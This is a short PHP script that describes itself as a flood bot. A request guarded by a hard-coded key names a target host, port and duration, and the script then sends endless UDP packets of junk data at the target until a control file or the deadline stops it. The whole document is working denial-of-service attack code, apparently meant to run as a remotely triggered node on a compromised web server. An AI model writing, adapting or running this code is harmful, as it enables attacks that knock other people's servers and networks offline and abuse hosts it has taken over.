<?php
// A flood bot: the request names the target, the port and how long; each turn of an endless loop
// first checks a control file and the deadline, then opens a UDP socket and writes junk to it.
ignore_user_abort(true);
set_time_limit(0);
if (($_REQUEST['k'] ?? '') !== 'x9') { exit; }
$host = gethostbyname($_REQUEST['t']);
$port = (int) $_REQUEST['p'];
$end = time() + (int) $_REQUEST['s'];
$junk = str_repeat('Z', 1400);
$n = 0;
while (1) {
    $state = @file_get_contents(__DIR__ . '/.state');
    if ($state === 'stop' || time() > $end) {
        break;
    }
    if ($n % 1000 === 0) {
        @touch(__DIR__ . '/.state');
    }
    $n++;
    $fp = fsockopen("udp://$host", $port, $e, $s, 5);
    if ($fp) { fwrite($fp, $junk); }
    fclose($fp);
}
echo $n;
